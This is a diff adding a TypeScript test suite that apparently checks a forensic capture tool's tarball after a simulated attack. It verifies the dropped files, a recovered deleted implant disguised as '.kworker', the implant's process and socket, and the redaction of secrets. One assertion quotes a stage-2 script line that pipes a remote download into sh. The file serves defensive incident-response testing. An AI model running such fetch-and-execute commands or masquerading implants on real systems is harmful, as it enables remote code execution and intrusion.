@@ -1,0 +1,92 @@
+/** The demo's attack, told from the tarball alone: what a responder would find. */
+import assert from 'node:assert/strict';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { existsSync, globSync, lstatSync, mkdtempSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { demo, type DemoResult } from '../../examples/demo.ts';
+import { hasPeer, missing } from '../peers.ts';
+
+interface ProcessRow {
+  readonly pid: number;
+  readonly ppid: number;
+  readonly comm: string;
+  readonly argv: readonly string[];
+  readonly exe: { readonly path: string; readonly deleted: boolean; readonly sha256?: string } & Record<string, unknown>;
+}
+
+const sha256 = (path: string): string => createHash('sha256').update(readFileSync(path)).digest('hex');
+const peers = ['tar', 'zstd', 'bash', 'unshare'].filter((program) => !hasPeer(program));
+
+describe('the capture of the attacked example', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'amber-e2e-'));
+  let result: DemoResult;
+  const root = (path: string): string => join(folder, '[root]', path);
+  const json = (name: string): unknown => JSON.parse(readFileSync(join(folder, 'live_response', name), 'utf8'));
+
+  before(async () => {
+    if (peers.length > 0) return;
+    const built = spawnSync(process.execPath, ['layer/build-package.ts', '--js'], { stdio: 'inherit' });
+    assert.equal(built.status, 0);
+    result = await demo(() => undefined);
+    const [tarball] = globSync(`${result.evidence}/**/capture.tar.zst`);
+    assert.ok(tarball !== undefined, readFileSync(result.log, 'utf8'));
+    execFileSync('tar', ['--zstd', '-xf', tarball, '-C', folder]);
+  });
+  after(() => {
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  const implant = (): ProcessRow => {
+    const rows = (json('processes.json') as { processes: readonly ProcessRow[] }).processes;
+    const found = rows.find((row) => row.argv[0]?.endsWith('/.kworker'));
+    assert.ok(found, JSON.stringify(rows.map((row) => row.argv)));
+    return found;
+  };
+
+  test('holds the file that was dropped, and the script', (t) => {
+    if (peers.length > 0) return void missing(t, peers.join(', '));
+    assert.equal(sha256(root(join(result.writable, '.cache-1'))), sha256('/bin/true'));
+    assert.match(readFileSync(root(join(result.writable, 'stage2.sh')), 'utf8'), /curl http:\/\/203\.0\.113\.7\/s \| sh/u);
+    assert.equal(lstatSync(root(join(result.writable, 'stage2.sh'))).mode & 0o111, 0o111);
+  });
+
+  test('recovers the running executable that was deleted, with the hash of what ran', (t) => {
+    if (peers.length > 0) return void missing(t, peers.join(', '));
+    assert.ok(!existsSync(root(join(result.writable, '.kworker'))));
+    assert.equal(sha256(join(folder, 'recovered', String(implant().pid), 'exe')), sha256('/bin/sleep'));
+  });
+
+  test('names its process with parent and arguments', (t) => {
+    if (peers.length > 0) return void missing(t, peers.join(', '));
+    const { pid, argv, ppid } = implant();
+    assert.deepEqual(argv.slice(1), ['600']);
+    assert.ok(ppid > 0);
+    assert.match(readlinkSync(root(`proc/${pid}/exe`)), /\.kworker \(deleted\)$/u);
+  });
+
+  test('ties its connection to the owning process', (t) => {
+    if (peers.length > 0) return void missing(t, peers.join(', '));
+    const { pid } = implant();
+    const text = readFileSync(join(folder, 'live_response/sockets.json'), 'utf8');
+    const rows = (JSON.parse(text) as { sockets: readonly (Record<string, unknown> & { pids?: readonly number[] })[] }).sockets;
+    const owned = rows.filter((row) => JSON.stringify(row['pids'] ?? row['owners'] ?? []).includes(String(pid)));
+    assert.ok(owned.some((row) => row['state'] === 'ESTABLISHED'), JSON.stringify(owned));
+  });
+
+  test('redacts the environment and keeps the access key id', (t) => {
+    if (peers.length > 0) return void missing(t, peers.join(', '));
+    const everything = spawnSync('grep', ['-rl', 'correct horse battery staple', folder], { encoding: 'utf8' });
+    assert.equal(everything.stdout, '');
+    const environment = readFileSync(join(folder, 'live_response/environment.json'), 'utf8');
+    assert.match(environment, /"DB_PASSWORD":\s*"<redacted:[0-9a-f]{16}>"/u);
+    assert.match(environment, /"AWS_ACCESS_KEY_ID":\s*"A/u);
+  });
+
+  test('was answered by the function all the same', (t) => {
+    if (peers.length > 0) return void missing(t, peers.join(', '));
+    assert.equal(result.status, 0);
+  });
+});
